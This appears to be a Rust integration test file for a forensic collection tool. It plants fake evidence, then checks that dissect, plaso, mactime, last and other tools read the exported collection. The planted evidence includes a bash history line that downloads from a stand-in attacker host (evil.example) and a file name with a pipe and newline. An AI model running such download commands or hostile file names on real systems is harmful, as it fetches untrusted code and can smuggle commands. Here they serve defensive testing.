//! Tools written by others read an export: dissect, plaso, mactime, last, journalctl, dpkg, rpm, case_validate, bagit; and the definitions
//! that the project ForensicArtifacts publishes are read.

#![expect(
    clippy::disallowed_methods,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "tests run other people's programs"
)]

use std::fs;
use std::net::TcpListener;
use std::os::unix::net::UnixDatagram;
use std::path::Path;
use std::process::{Child, Command};
use std::thread::sleep;
use std::time::{Duration, Instant};

use hozen_tests::agent::{Agent, Running};
use hozen_tests::helper::Helper;
use hozen_tests::host::{Mounts, is_root, skipped};
use hozen_tests::{python, rpm};
use nix::sys::signal::{Signal, kill};
use nix::sys::stat::{UtimensatFlags, utimensat};
use nix::sys::time::TimeSpec;
use nix::unistd::Pid;
use serde_json::Value;

/// What a program prints; it must succeed.
fn said(command: &mut Command) -> String {
    let output = command.output().unwrap_or_else(|error| panic!("{command:?}: {error}"));
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(output.status.success(), "{command:?}: {}\n{text}{}", output.status, String::from_utf8_lossy(&output.stderr));
    text
}

/// A user with a history, a file with a hostile name, and a login in `wtmp`.
fn plant(folder: &Path, mounts: &mut Mounts) {
    let users = folder.join("passwd");
    let known = fs::read_to_string("/etc/passwd").unwrap();
    fs::write(&users, format!("{known}ann:x:4242:4242::/home/ann:/bin/bash\n")).unwrap();
    mounts.bind(&users, Path::new("/etc/passwd"));
    mounts.tmpfs(Path::new("/home"), "8m");
    mounts.tmpfs(Path::new("/var/log"), "8m");
    fs::create_dir_all("/home/ann/.ssh").unwrap();
    fs::write("/home/ann/.bash_history", "#1700000000\nwget http://evil.example/x\n").unwrap();
    fs::write("/home/ann/.ssh/a|b\n", "x").unwrap();
    let then = TimeSpec::new(1_000_000_000, 0);
    utimensat(nix::fcntl::AT_FDCWD, "/home/ann/.ssh/a|b\n", &then, &then, UtimensatFlags::NoFollowSymlink).unwrap();
    fs::write("/var/log/wtmp", login()).unwrap();
    fs::write("/var/log/auth.log", "Nov 14 22:13:20 guest sshd[7]: Accepted publickey for ann from 192.0.2.9 port 22 ssh2\n")
        .unwrap();
}

/// A record of utmp(5): USER_PROCESS of ann on pts/7.
fn login() -> Vec<u8> {
    let mut record = vec![0_u8; 384];
    let mut put = |at: usize, bytes: &[u8]| record[at..at + bytes.len()].copy_from_slice(bytes);
    put(0, &7_i16.to_le_bytes());
    put(4, &4242_i32.to_le_bytes());
    put(8, b"pts/7");
    put(44, b"ann");
    put(76, b"evil.example");
    put(340, &1_700_000_000_i32.to_le_bytes());
    record
}

/// A journal that systemd's own daemon wrote below a `/run` of the test's own; whether it could be had.
fn plant_journal(test: &str, mounts: &mut Mounts) -> bool {
    let programs = ["/usr/lib/systemd/systemd-journald", "/lib/systemd/systemd-journald"].map(Path::new);
    let program = programs.into_iter().find(|path| path.is_file());
    let Some(program) = program.filter(|_| Path::new("/etc/machine-id").is_file()) else {
        skipped(test, "systemd-journald, and a machine id");
        return false;
    };
    mounts.tmpfs(Path::new("/run"), "64m");
    fs::create_dir_all("/run/systemd/journald.conf.d").unwrap();
    fs::create_dir_all("/run/systemd/journal").unwrap();
    // Nothing of this host: neither its kernel's log nor its audit.
    fs::write("/run/systemd/journald.conf.d/x.conf", "[Journal]\nStorage=volatile\nAudit=no\nReadKMsg=no\n").unwrap();
    let mut daemon = Command::new(program).spawn().unwrap();
    let line = b"MESSAGE=planted in the journal\nSYSLOG_IDENTIFIER=planter\n";
    wait_until("the journal took the line", || {
        let sent = UnixDatagram::unbound().unwrap().send_to(line, "/run/systemd/journal/socket").is_ok();
        sent && journal_of(Path::new("/run/log/journal")).contains("planted in the journal")
    });
    kill(Pid::from_raw(i32::try_from(daemon.id()).unwrap()), Signal::SIGTERM).unwrap();
    daemon.wait().unwrap();
    true
}

fn wait_until(what: &str, is: impl Fn() -> bool) {
    let began = Instant::now();
    while !is() {
        assert!(began.elapsed() < Duration::from_secs(60), "not: {what}");
        sleep(Duration::from_millis(100));
    }
}

/// What `journalctl` prints of the journals in a folder and its folders.
fn journal_of(folder: &Path) -> String {
    let machine = fs::read_to_string("/etc/machine-id").unwrap();
    let output =
        Command::new("journalctl").arg("-D").arg(folder.join(machine.trim())).args(["--no-pager", "-o", "short-iso"]).output();
    output.map(|output| String::from_utf8_lossy(&output.stdout).into_owned()).unwrap_or_default()
}

/// Ids of processes, some of which began behind the first freeze-frame of a run and ended before the second.
fn passers_by(run: &mut Running, to: &Path) -> Vec<u32> {
    let mut passing = Vec::new();
    // One begins every 20 ms until the run has read single processes: some of them between that and the frame.
    while !to.join("data/process/process_envs.jsonl.zst").exists() && !run.has_ended() {
        passing.push(Command::new("sleep").arg("600").spawn().unwrap());
        sleep(Duration::from_millis(20));
    }
    let end = |mut child: Child| {
        child.kill().unwrap();
        child.wait().unwrap();
        child.id()
    };
    passing.into_iter().map(end).collect()
}

#[test]
fn tools_of_others_read_an_export() {
    let test = "tools_of_others_read_an_export";
    let Some(python) = python::forensics(test) else { return };
    if !is_root(test) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (to, out) = (folder.path().join("evidence"), folder.path().join("out"));
    let mut mounts = Mounts::own();
    plant(folder.path(), &mut mounts);
    let (has_journal, has_rpm) = (plant_journal(test, &mut mounts), rpm::plant(test, folder.path(), &mut mounts, &[]));
    let plain = Helper::start("odd", ["plain"]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let mut run = Agent::find().start(Agent::collection(&to, &["--memory", "off", "--skip", "files,hidden_files"]));
    let passing = passers_by(&mut run, &to);
    run.wait().assert_sealed();
    Agent::find().verify(&to).assert_code(0);
    let formats = ["--format", "tree,tar,bodyfile,timesketch,case,bagit", "--to"].map(Into::into);
    let arguments = ["export".into(), to.into_os_string()].into_iter().chain(formats).chain([out.clone().into()]);
    let finished = Agent::find().run(arguments);
    finished.assert_code(0);
    // dissect's processes would end at it.
    let apart = |pid: &u32| out.join(format!("also/process_envs/[root]/proc/{pid}/environ")).is_file();
    assert!(passing.iter().any(apart) && finished.said().contains("are of processes without stat"), "{}", finished.said());
    let (pid, port) = (plain.number("pid"), listener.local_addr().unwrap().port());
    dissect(&python, &out.join("root.tar"), pid, port);
    dissect(&python, &out.join("[root]"), pid, port);
    plaso(&python, &out, has_journal);
    if has_journal {
        let journal = journal_of(&out.join("[root]/run/log/journal"));
        assert!(journal.contains("planter") && journal.contains("planted in the journal"), "{journal}");
    }
    if has_rpm {
        let root = out.join("[root]");
        let packages = said(Command::new("rpm").arg("--root").arg(root).args(["--dbpath", "/var/lib/rpm", "-qa"]));
        assert_eq!(packages, "planted-1-1.noarch\n");
    }
    mactime(test, &out.join("bodyfile.txt"));
    let logins = said(Command::new("last").arg("-f").arg(out.join("[root]/var/log/wtmp")));
    assert!(logins.contains("ann") && logins.contains("pts/7") && logins.contains("evil"), "{logins}");
    dpkg(&out.join("[root]"));
    said(Command::new(&python).args(["-m", "bagit", "--validate"]).arg(out.join("bag")));
    let verdict = said(python::program(&python, "case_validate").arg(out.join("case.jsonld")));
    assert!(verdict.contains("Conforms: True"), "{verdict}");
    let events = fs::read_to_string(out.join("timesketch.jsonl")).unwrap();
    let typed = |line: &str| line.contains("wget http://evil.example/x") && line.contains("2023-11-14T22:13:20.000000+00:00");
    assert!(events.lines().any(typed), "the command is no event");
}

#[test]
fn the_published_definitions_are_read() {
    let Some(python) = python::forensics("the_published_definitions_are_read") else { return };
    let counted: Value = serde_json::from_str(&said(Command::new(python).arg(python::script("definitions.py")))).unwrap();
    let folder = counted["folder"].as_str().unwrap();
    let only = ["collect", "--dry-run", "--unprivileged", "--only", "user_files", "--artifacts", folder];
    let finished = Agent::find().run(only);
    finished.assert_code(0);
    let taken = &finished.result()["user_files"];
    // Each path for Linux is looked for, but those of files that the kernel makes; they and the commands are refused.
    assert_eq!((&taken["content"], &taken["listing"]), (&counted["FILE"], &counted["PATH"]), "{counted} {taken}");
    assert!(counted["FILE"].as_u64() > Some(800) && counted["COMMAND"].as_u64() > Some(0), "{counted}");
    assert!(taken["refused"].as_u64() >= counted["COMMAND"].as_u64() && taken["other_system"].as_u64() > Some(100), "{taken}");
    assert!(finished.said().contains("Hozen executes nothing on a host"), "{}", finished.said());
}

/// Every function that dissect.target has for what was collected of a running system.
fn dissect(python: &Path, target: &Path, pid: i64, port: u16) {
    let ask = |function: &str| {
        let mut command = Command::new(python);
        said(command.args(["-m", "dissect.target.tools.query", "-q", "-s", "-f", function]).arg(target))
    };
    let has = |function: &str, words: &[String]| {
        let text = ask(function);
        assert!(
            text.lines().any(|line| words.iter().all(|word| line.contains(word))),
            "{function} of {}: {words:?}: {text}",
            target.display()
        );
    };
    has("os", &["linux".to_owned()]);
    has("processes", &[format!("pid={pid} "), "name='odd'".to_owned()]);
    has("cmdline", &[format!("pid={pid} "), "plain".to_owned()]);
    has("environ", &[format!("pid={pid} "), "PATH".to_owned()]);
    has("commandhistory", &["wget http://evil.example/x".to_owned()]);
    has("netstat", &[format!("127.0.0.1:{port}"), "LISTEN".to_owned()]);
    has("sockets", &[format!("local_port={port} ")]);
}

/// plaso's parsers of bodyfiles, histories, logs and journals, over what was exported for them.
fn plaso(python: &Path, out: &Path, has_journal: bool) {
    let (source, events) = (out.with_extension("plaso"), out.with_extension("jsonl"));
    fs::create_dir(&source).unwrap();
    fs::copy(out.join("bodyfile.txt"), source.join("bodyfile.txt")).unwrap();
    for file in ["home/ann/.bash_history", "var/log/auth.log"] {
        let file = out.join("[root]").join(file);
        fs::copy(&file, source.join(file.file_name().unwrap())).unwrap();
    }
    if has_journal {
        let machine = fs::read_to_string("/etc/machine-id").unwrap();
        let journal = Path::new("[root]/run/log/journal").join(machine.trim()).join("system.journal");
        fs::copy(out.join(journal), source.join("system.journal")).unwrap();
    }
    let storage = source.join("events.plaso");
    let quiet = ["-q", "-u", "--status_view", "none", "--logfile", "/dev/null"];
    let kinds = "bodyfile,text/bash_history,text/syslog_traditional,systemd_journal";
    let parsers = ["--single_process", "--hashers", "none", "--parsers", kinds];
    let run = |program: &str| {
        let mut command = python::program(python, program);
        // Its settings and caches stay in the test's folder.
        command.env("HOME", &source).current_dir(&source).args(quiet);
        command
    };
    said(run("log2timeline").args(parsers).arg("--storage-file").arg(&storage).arg(&source));
    said(run("psort").args(["-o", "json_line", "-w"]).arg(&events).arg(&storage));
    let events = fs::read_to_string(events).unwrap();
    let events: Vec<Value> = events.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let has = |kind: &str, what: &dyn Fn(&Value) -> bool| {
        let found = events.iter().filter(|event| event["data_type"] == kind).any(what);
        assert!(found, "no such event of {kind} among {} events", events.len());
    };
    let named =
        |name: &'static str| move |event: &Value| event["filename"] == name && event["timestamp"] == 1_000_000_000_000_000_i64;
    // It leaves the sign for `|` in the name as mactime wants it written.
    has("fs:bodyfile:entry", &named("/home/ann/.ssh/a%7Cb\n"));
    has("bash:history:entry", &|event| event["command"].as_str().is_some_and(|text| text.contains("wget http://evil.example/x")));
    has("syslog:ssh:login", &|event| event["username"] == "ann" && event["ip_address"] == "192.0.2.9");
    if has_journal {
        has("systemd:journal", &|event| event["message_body"] == "planted in the journal");
    }
}

fn mactime(test: &str, bodyfile: &Path) {
    let output = Command::new("mactime").args(["-z", "UTC", "-d", "-b"]).arg(bodyfile).output();
    let Ok(output) = output else {
        skipped(test, "mactime of sleuthkit");
        return;
    };
    let text = String::from_utf8_lossy(&output.stdout);
    let found = text.lines().any(|line| line.contains("Sun Sep 09 2001 01:46:40") && line.contains("/home/ann/.ssh/a|b\\x0a"));
    assert!(output.status.success() && found, "{text}");
}

/// On a host with dpkg, it takes the export for the root of a system.
fn dpkg(root: &Path) {
    if Path::new("/var/lib/dpkg/status").is_file() {
        let text = said(Command::new("dpkg").arg(format!("--root={}", root.display())).args(["--status", "dpkg"]));
        assert!(text.contains("\nStatus: install ok installed\n"), "{text}");
    }
}
